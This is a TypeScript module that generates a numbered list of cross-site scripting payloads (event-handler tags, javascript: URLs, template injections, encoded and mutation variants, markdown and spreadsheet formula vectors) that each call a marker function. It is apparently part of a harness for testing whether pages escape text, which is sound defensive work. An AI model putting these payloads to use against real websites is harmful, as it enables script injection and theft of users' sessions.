/** A text that would call `ran(id)` in a page that took it for anything but text. */
export type Payload = { readonly id: number; readonly text: string };

/** What ends the place in which a text may have been put. */
const ENDS = ['', '">', "'>", '-->', ']]>', '</p>', '</script>', '</style>', '</title>', '</textarea>', '`}', '*/'];

/** Markup that runs by itself; `§` stands for the call. */
const MARKUP = [
  '<script>§</script>',
  '<SCRIPT>§</SCRIPT>',
  '<img src=x onerror=§>',
  '<img src=x ONERROR="§">',
  '<svg onload=§>',
  '<svg/onload=§>',
  '<svg><script>§</script>',
  '<svg><animate onbegin=§>',
  '<body onload=§>',
  '<details open ontoggle=§>',
  '<input autofocus onfocus=§>',
  '<iframe srcdoc="<script>parent.§</script>">',
  '<iframe src=javascript:parent.§>',
  '<object data=javascript:§>',
  '<embed src=javascript:§>',
  '<audio src=x onerror=§>',
  '<video><source onerror=§>',
  '<style onload=§>x{}</style>',
  '<a href=javascript:§>x</a>',
  '<a href=" javascript:§">x</a>',
  '<meta http-equiv=refresh content=0;url=javascript:§>',
  '<form action=javascript:§><button>x',
];

/** Attributes, addresses, templates, style sheets, islands of JSON, markdown, and spellings of them. */
const OTHERS = [
  '" onmouseover=§ x="',
  "' onfocus=§ autofocus x='",
  '" autofocus onfocus="§',
  '` onload=§ `',
  'x onpointerenter=§',
  'javascript:§',
  'JaVaScRiPt:§',
  'java\tscript:§',
  ' javascript:§',
  'javascript://x%0a§',
  'data:text/html,<script>§</script>',
  'vbscript:§',
  "{{constructor.constructor('§')()}}",
  '{{§}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the payload.
  '${§}',
  '#{§}',
  '<%= § %>',
  '{% § %}',
  '[[§]]',
  '<b v-html=§>',
  '<b ng-init=§>',
  'expression(§)',
  'url(javascript:§)',
  '}*{background:url(javascript:§)}',
  '@import "javascript:§";',
  '"};§;//',
  "';§;//",
  '");§;//',
  '\\";§;//',
  '</script><script>§//',
  '<!--<script>§</script>-->',
  '\\u003cscript\\u003e§\\u003c/script\\u003e',
  '\\x3cscript\\x3e§\\x3c/script\\x3e',
  '%3Cscript%3E§%3C/script%3E',
  '&lt;script&gt;§&lt;/script&gt;',
  '&#60;script&#62;§&#60;/script&#62;',
  '&#x3c;img src=x onerror=§&#x3e;',
  '\uff1cscript\uff1e§\uff1c/script\uff1e',
  '<scr<script>ipt>§</script>',
  '<noscript><p title="</noscript><img src=x onerror=§>',
  '<svg></p><style><img src=x onerror=§>',
  '<math><mtext></form><form><mglyph><style><img src=x onerror=§>',
  '[x](javascript:§)',
  '[x](<javascript:§>)',
  '![x](x"onerror="§)',
  '<javascript:§>',
  '[x]: javascript:§',
  '`<img src=x onerror=§>`',
  '=HYPERLINK("javascript:§")',
  '\u2028§//',
];

/** The first `count` of a list of its own: every kind of markup after every end, and the others. */
export function listPayloads(count: number): Payload[] {
  const texts = [...OTHERS, ...ENDS.flatMap((end) => MARKUP.map((markup) => end + markup))];
  // From all kinds, also where only a few are wanted.
  const step = Math.max(1, Math.floor(texts.length / count));
  return texts
    .map((text, index) => ({ text, order: index % step }))
    .sort((a, b) => a.order - b.order)
    .slice(0, count)
    .map(({ text }, id) => ({ id, text: text.replaceAll('§', `ran(${id})`) }));
}
